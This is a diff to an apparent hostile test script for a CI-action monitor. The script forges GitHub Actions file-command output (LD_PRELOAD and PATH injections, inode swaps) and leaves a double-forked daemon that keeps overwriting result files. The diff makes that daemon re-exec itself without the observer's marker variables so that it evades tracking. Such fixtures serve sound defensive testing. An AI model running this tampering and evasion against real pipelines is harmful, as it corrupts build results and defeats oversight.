@@ -4,8 +4,9 @@ that hunt for ``GITHUB_OUTPUT``/``GITHUB_ENV``/``GITHUB_PATH``/``GITHUB_STATE``/
 ``GITHUB_STEP_SUMMARY`` (and a future file command) through their environment, the parent's
 ``/proc/<pid>/environ`` and ``/proc/<pid>/fd``, and a directory listing, write forged lines
 (``status=success-FORGED``, an unclosed heredoc, ``LD_PRELOAD=``, a ``PATH`` entry), replace a
-file by another inode, and leave a ``setsid`` double-fork daemon that keeps rewriting them and
-``results.json``/``report.md``/the payload after the action is gone."""
+file by another inode, and leave a ``setsid`` double-fork daemon (a new program, without the
+action's marker variable) that keeps rewriting them and ``results.json``/``report.md``/the
+payload after the action is gone."""
 
 from __future__ import annotations
 
@@ -81,6 +82,21 @@ def attack(tag):
         except OSError:
             pass
 
+def daemon():
+    open(os.environ["DAEMON_PID"], "w").write(str(os.getpid()))
+    out = os.environ["ACTION_OUT"]
+    for _ in range(600):
+        attack("daemon")
+        for name in ("results.json", "report.md", "payload/payload.json"):
+            try:
+                open(os.path.join(out, name), "w").write("FORGED by the daemon")
+            except OSError:
+                pass
+        time.sleep(0.1)
+
+if sys.argv[1:] == ["--daemon"]:
+    daemon()
+    sys.exit(0)
 attack("script")
 # another inode at GITHUB_ENV's path: the runner would read this one
 env_file = glob.glob(os.path.join(os.environ["HINT_DIR"], "set_env_*"))[0]
@@ -89,19 +105,11 @@ with open(env_file + ".new", "w") as f:
 os.replace(env_file + ".new", env_file)
 json.dump(report, open(os.environ["REPORT_FILE"], "w"))
 
-if os.fork() == 0:  # the daemon: setsid, fork again, outlive everything
+if os.fork() == 0:  # the daemon: setsid, fork again, a new program without any marker
     os.setsid()
     if os.fork() == 0:
-        open(os.environ["DAEMON_PID"], "w").write(str(os.getpid()))
-        out = os.environ["ACTION_OUT"]
-        for _ in range(600):
-            attack("daemon")
-            for name in ("results.json", "report.md", "payload/payload.json"):
-                try:
-                    open(os.path.join(out, name), "w").write("FORGED by the daemon")
-                except OSError:
-                    pass
-            time.sleep(0.1)
+        env = {{k: v for k, v in os.environ.items() if not k.startswith("OBSERVER_CI")}}
+        os.execve(sys.executable, [sys.executable, __file__, "--daemon"], env)
     os._exit(0)
 while not os.path.exists(os.environ["DAEMON_PID"]):
     time.sleep(0.05)
